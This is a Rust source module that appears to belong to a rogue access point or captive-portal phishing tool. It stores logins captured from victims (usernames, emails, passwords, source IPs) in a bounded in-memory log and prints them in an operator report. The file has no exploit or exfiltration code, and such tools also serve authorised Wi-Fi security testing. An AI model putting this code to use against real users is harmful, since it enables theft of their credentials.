//! Captured credential storage
//!
//! Bounded, append-only, in-memory. Once the log is full further captures
//! are rejected rather than overwriting older entries; entries are lost on
//! exit. Timestamps are tool uptime (HH:MM:SS, wrapping at 24h), since the
//! host serving an isolated AP has no trustworthy wall clock.

use crate::error::LogFull;
use std::fmt::Write as _;
use std::net::IpAddr;
use std::time::Duration;

/// One submitted login. A `None` field was not present in the submission at
/// all, as opposed to submitted empty.
#[derive(Debug, Clone)]
pub struct CapturedCredential {
    pub timestamp: String,
    pub username: Option<String>,
    pub password: Option<String>,
    pub email: Option<String>,
    pub source_ip: IpAddr,
}

/// Append-only log with a hard capacity.
#[derive(Debug)]
pub struct CredentialLog {
    entries: Vec<CapturedCredential>,
    capacity: usize,
}

impl CredentialLog {
    pub fn with_capacity(capacity: usize) -> Self {
        Self {
            entries: Vec::with_capacity(capacity),
            capacity,
        }
    }

    /// Append a capture. At capacity the log is left unchanged and the
    /// caller gets an explicit `LogFull` so the drop is visible.
    pub fn append(&mut self, cred: CapturedCredential) -> Result<(), LogFull> {
        if self.entries.len() >= self.capacity {
            return Err(LogFull {
                capacity: self.capacity,
            });
        }
        self.entries.push(cred);
        Ok(())
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    pub fn entries(&self) -> &[CapturedCredential] {
        &self.entries
    }

    pub fn clear(&mut self) {
        self.entries.clear();
    }

    /// Operator-facing report. Fields are shown only when a non-empty value
    /// was captured.
    pub fn format(&self) -> String {
        let mut out = String::new();
        out.push_str("\n==================== CAPTURED CREDENTIALS ====================\n\n");

        if self.is_empty() {
            out.push_str("[*] No credentials captured yet.\n");
            return out;
        }

        let _ = writeln!(out, "Total captured: {}\n", self.len());

        for (i, cred) in self.entries().iter().enumerate() {
            let _ = writeln!(out, "--- Credential #{} ---", i + 1);
            let _ = writeln!(out, "  Time:     {}", cred.timestamp);
            let _ = writeln!(out, "  IP:       {}", cred.source_ip);

            if let Some(username) = cred.username.as_deref().filter(|v| !v.is_empty()) {
                let _ = writeln!(out, "  Username: {username}");
            }
            if let Some(email) = cred.email.as_deref().filter(|v| !v.is_empty()) {
                let _ = writeln!(out, "  Email:    {email}");
            }
            if let Some(password) = cred.password.as_deref().filter(|v| !v.is_empty()) {
                let _ = writeln!(out, "  Password: {password}");
            }
            out.push('\n');
        }

        out
    }
}

/// Format an uptime duration as HH:MM:SS, wrapping at 24 hours.
pub fn format_uptime(uptime: Duration) -> String {
    let total = uptime.as_secs();
    let seconds = total % 60;
    let minutes = (total / 60) % 60;
    let hours = (total / 3600) % 24;
    format!("{hours:02}:{minutes:02}:{seconds:02}")
}
